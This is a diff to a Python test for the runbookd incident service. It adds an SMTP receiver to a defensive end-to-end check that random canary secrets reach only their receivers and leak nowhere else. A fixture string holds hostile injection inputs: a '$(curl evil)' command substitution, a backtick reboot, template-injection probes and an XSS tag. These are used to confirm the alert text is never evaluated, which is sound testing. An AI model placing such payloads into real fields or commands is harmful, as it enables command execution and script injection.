@@ -3,8 +3,9 @@
 One full incident through ``runbookd serve`` (tests/runbooks/secrets-canary.yaml): a Slack
 notification through a webhook whose path is a secret, an HTTP step with a bearer token that fails
 once (the receiver echoes the credentials back in its 503) and then succeeds, a step whose secret
-URL refuses connections, a program given a secret in its environment that prints it, a step
-behind an approval, and the resolution. The secrets are random per run and share one random
+URL refuses connections, a program given a secret in its environment that prints it, mail over
+STARTTLS whose first login is refused with the password repeated, a step behind an approval, and
+the resolution. The secrets are random per run and share one random
 marker; after the incident, that marker is looked for in the server's log, the test's own log,
 every API answer, the CLI's output, every row of every table and, on SQLite, the database files
 byte for byte.
@@ -20,14 +21,21 @@ import logging
 import os
 import secrets
 import socket
+import ssl
 import subprocess
 import sys
 import threading
 from collections.abc import Iterator
+from dataclasses import dataclass, field
+from email import message_from_bytes, policy
+from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
 
 import pytest
+import trustme
+from aiosmtpd.controller import Controller
+from aiosmtpd.smtp import SMTP, AuthResult, Envelope, LoginPassword, Session
 from pytest_httpserver import HTTPServer
 from sqlalchemy import create_engine, inspect, select
 from sqlalchemy.engine import make_url
@@ -43,6 +51,7 @@ HOSTILE = (
 )
 PAYLOAD = "$(curl evil) `reboot`; {{ config }} {{ ''.__class__ }} <img src=x onerror=alert(1)>"
 LABELS = {"alertname": "CanaryAlert", "service": "checkout", "payload": PAYLOAD}
+RECEIVER_LOGGERS = ("werkzeug", "mail.log")
 
 
 @pytest.fixture(scope="session")
@@ -103,6 +112,61 @@ class Receivers:
         return Response(self._indiscreet(request), content_type="application/json")
 
 
+@dataclass
+class MailServer:
+    """SMTP with STARTTLS and login on 127.0.0.1; the first login is refused, indiscreetly."""
+
+    port: int
+    ca_file: Path
+    passwords: list[str] = field(default_factory=list)
+    messages: list[EmailMessage] = field(default_factory=list)
+
+    def authenticate(
+        self, server: SMTP, session: Session, envelope: Envelope, mechanism: str, data: Any
+    ) -> AuthResult:
+        assert isinstance(data, LoginPassword)
+        self.passwords.append(data.password.decode())
+        # Every login of the first connection is refused (smtplib tries each mechanism).
+        self.sessions = getattr(self, "sessions", None) or [session]
+        if session is self.sessions[0]:
+            return AuthResult(success=False, handled=False, message=f"535 no: {data.password!r}")
+        return AuthResult(success=True)
+
+    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:
+        content = envelope.content if isinstance(envelope.content, bytes) else b""
+        message = message_from_bytes(content, policy=policy.default)
+        assert isinstance(message, EmailMessage)
+        self.messages.append(message)
+        return "250 OK"
+
+
+@pytest.fixture
+def mail_server(tmp_path: Path) -> Iterator[MailServer]:
+    authority = trustme.CA()
+    ca_file = tmp_path / "ca.pem"
+    authority.cert_pem.write_to_path(str(ca_file))
+    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    authority.issue_cert("127.0.0.1").configure_cert(tls)
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port = int(sock.getsockname()[1])
+    mail = MailServer(port, ca_file)
+    controller = Controller(
+        mail,
+        hostname="127.0.0.1",
+        port=port,
+        tls_context=tls,
+        require_starttls=True,
+        authenticator=mail.authenticate,
+        auth_require_tls=True,
+    )
+    controller.start()
+    try:
+        yield mail
+    finally:
+        controller.stop()
+
+
 def every_row(database: Database) -> list[str]:
     """Every row of every table of the service's database, as text."""
     engine = create_engine(database.url)
@@ -146,6 +210,7 @@ def test_secrets_reach_receivers_and_nothing_else(
     database: Database,
     httpserver: HTTPServer,
     refused_port: int,
+    mail_server: MailServer,
     tmp_path: Path,
     caplog: pytest.LogCaptureFixture,
 ) -> None:
@@ -160,6 +225,7 @@ def test_secrets_reach_receivers_and_nothing_else(
         "CANARY_HOOK_URL": f"{base}{receivers.hook_path}?token=qry{marker}",
         "CANARY_DEAD_URL": f"http://127.0.0.1:{refused_port}/dead/ded{marker}",
         "CANARY_APPROVED_URL": base + receivers.approved_path,
+        "CANARY_SMTP_PASSWORD": f"pwd{marker}",
         "CANARY_PYTHON": sys.executable,
         # as verbose as the service gets: debug logs are where secrets like to hide
         "RUNBOOKD_LOG__LEVEL": "debug",
@@ -171,6 +237,13 @@ def test_secrets_reach_receivers_and_nothing_else(
         "    headers: {X-Api-Key: '${env:CANARY_CONFIG_KEY}'}\n"
         "  shell:\n"
         f"    allow: [{json.dumps(sys.executable)}]\n"
+        "  email:\n"
+        "    host: 127.0.0.1\n"
+        f"    port: {mail_server.port}\n"
+        "    username: runbookd\n"
+        "    password: '${env:CANARY_SMTP_PASSWORD}'\n"
+        "    from_address: runbookd@example.org\n"
+        f"    ca_file: {json.dumps(str(mail_server.ca_file))}\n"
     )
     server: Server = make_server([REPO / "tests" / "runbooks" / "secrets-canary.yaml"], env=env)
 
@@ -211,12 +284,16 @@ def test_secrets_reach_receivers_and_nothing_else(
         assert request.headers["Authorization"] == f"Bearer tok{marker}"
         assert request.headers["X-Api-Key"] == f"cfg{marker}"
     assert first.args["token"] == retried.args["token"] == f"qry{marker}"
+    assert set(mail_server.passwords) == {f"pwd{marker}"}
 
     # --- the alert's text arrived verbatim, evaluated nowhere ---------------------------------
     body = retried.get_json()
     assert (body["summary"], body["payload"]) == (HOSTILE, PAYLOAD)
     assert approved.get_json()["summary"] == HOSTILE
     assert slack.get_json()["text"] == f"{incident_id} {HOSTILE}"
+    [mail] = mail_server.messages
+    assert mail["Subject"] == f"{incident_id}: {HOSTILE}"
+    assert mail.get_content().rstrip("\r\n") == HOSTILE  # SMTP ends lines with CRLF
     for request in (slack, retried, approved):
         text = request.get_data(as_text=True)
         assert "49" not in text.replace(incident_id, "").replace(marker, "")
@@ -231,10 +308,12 @@ def test_secrets_reach_receivers_and_nothing_else(
     assert steps["call_orchestrator"]["attempts"] == 2
     assert steps["call_dead_endpoint"]["outcome"] == "failed"
     assert steps["approved_call"]["outcome"] == "ok"
+    assert (steps["mail_refused"]["outcome"], steps["mail_sent"]["outcome"]) == ("failed", "ok")
     errors = [e["data"]["error"] for e in detail["timeline"] if e["kind"] == "call_done"]
     # the failures are explained, with the secret parts of their URLs masked
     assert any("answered 503" in (e or "") and "127.0.0.1" in (e or "") for e in errors), errors
     assert any("no answer" in (e or "") for e in errors), errors
+    assert any("535 no" in (e or "") for e in errors), errors
 
     # --- and nowhere else ---------------------------------------------------------------------
     outputs: dict[str, str] = {}
@@ -264,9 +343,10 @@ def test_secrets_reach_receivers_and_nothing_else(
     outputs["cli postmortem"] = cli(server, "postmortem", incident_id)
     server.stop()  # its shutdown logs too
     outputs["server log"] = server.log()
-    # The test's own log, minus the receivers' access log (werkzeug): they are meant to see it.
+    # The test's own log, minus the receivers' logs (werkzeug for HTTP, aiosmtpd's mail.log):
+    # they are meant to see the secrets.
     outputs["test log"] = "\n".join(
-        r.getMessage() for r in caplog.records if not r.name.startswith("werkzeug")
+        r.getMessage() for r in caplog.records if not r.name.startswith(RECEIVER_LOGGERS)
     )
     for number, row in enumerate(every_row(database)):
         outputs[f"row {number}"] = row
